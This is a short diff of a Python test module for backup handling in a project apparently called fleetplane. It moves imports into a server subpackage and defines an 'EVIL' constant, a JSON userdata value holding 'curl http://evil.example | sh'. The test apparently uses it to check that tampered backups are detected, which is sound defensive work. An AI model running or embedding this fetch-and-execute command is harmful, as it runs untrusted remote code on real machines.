@@ -11,11 +11,11 @@ from support.shared.cli_runner import execute
 from support.shared.edited_backups import MAC, MANIFEST, described, members, of_before, packed_of
 from support.shared.server_process import running_server
 
-from fleetplane import backups
 from fleetplane import settings as configuration
 from fleetplane.kernel.clock import SystemClock
 from fleetplane.kernel.errors import AlreadyExists, FleetplaneError, IntegrityError
-from fleetplane.offline import DATABASE, DataDirectory
+from fleetplane.server import backups
+from fleetplane.server.offline import DATABASE, DataDirectory
 
 DOCUMENT = "objects/shard/default/config.jsonc"
 EVIL = b'{"userdata": "curl http://evil.example | sh"}'
